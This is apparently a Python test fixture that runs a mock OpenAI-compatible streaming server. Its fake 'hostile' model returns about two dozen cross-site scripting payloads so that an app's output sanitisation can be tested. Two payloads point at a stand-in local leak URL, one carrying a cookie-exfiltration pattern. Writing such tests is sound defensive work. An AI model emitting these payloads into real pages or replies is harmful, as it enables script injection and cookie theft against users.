"""An OpenAI-compatible server whose model writes attacks: in feedback_to_user, in tool-call
arguments and in the answer. Glassbox reaches it through the real openai client."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# Where a successful exfiltration would call; the browser test asserts nothing ever does.
LEAK = "http://127.0.0.1:9/leak"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "[click me](javascript:alert(4))",
    '<a href="javascript:alert(5)">link</a>',
    '<iframe src="javascript:alert(6)"></iframe>',
    "<body onload=alert(7)>",
    "<details open ontoggle=alert(8)>",
    '"><script>alert(9)</script>',
    '![pic](x" onerror="alert(10))',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>",
    '<div style="background:url(javascript:alert(12))">styled</div>',
    "[mixed case](JaVaScRiPt:alert(13))",
    '<object data="javascript:alert(14)"></object>',
    '<embed src="javascript:alert(15)">',
    "<input autofocus onfocus=alert(16)>",
    "<video><source onerror=alert(17)></video>",
    "<form><button formaction=javascript:alert(18)>go</button></form>",
    f"![tracker]({LEAK}.png)",
    '<a href="data:text/html,<script>alert(20)</script>">data</a>',
    "<template><script>alert(21)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(22)>"></noscript>',
    f'<img src="{LEAK}?cookie=1">',
    '<div hx-get="/admin/" hx-trigger="load">htmx attribute</div>',
    '<div hx-on::load="alert(25)">hx-on</div>',
]
FEEDBACK = "<img src=x onerror=alert('feedback')> Searching <b>now</b>"
ANSWER = "Here are the payloads, each on its own line:\n\n" + "\n\n".join(PAYLOADS)


def _chunk(delta: dict, finish: str | None = None) -> bytes:
    data = {
        "id": "chatcmpl-hostile",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": "hostile-model",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }
    return f"data: {json.dumps(data)}\n\n".encode()


class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        answered_tool = body["messages"][-1]["role"] == "tool"
        if answered_tool or not body.get("tools"):
            chunks = [_chunk({"role": "assistant", "content": ""})]
            chunks += [_chunk({"content": ANSWER[i : i + 40]}) for i in range(0, len(ANSWER), 40)]
            chunks.append(_chunk({}, "stop"))
        else:
            arguments = json.dumps({"feedback_to_user": FEEDBACK, "query": PAYLOADS[0]})
            call = {"index": 0, "id": "call_x", "type": "function",
                    "function": {"name": "search_documents", "arguments": arguments}}  # fmt: skip
            chunks = [
                _chunk({"role": "assistant", "tool_calls": [call]}),
                _chunk({}, "tool_calls"),
            ]
        for chunk in chunks:
            self.wfile.write(chunk)
        self.wfile.write(b"data: [DONE]\n\n")

    def log_message(self, *args):
        pass


class HostileProvider:
    def __enter__(self) -> HostileProvider:
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
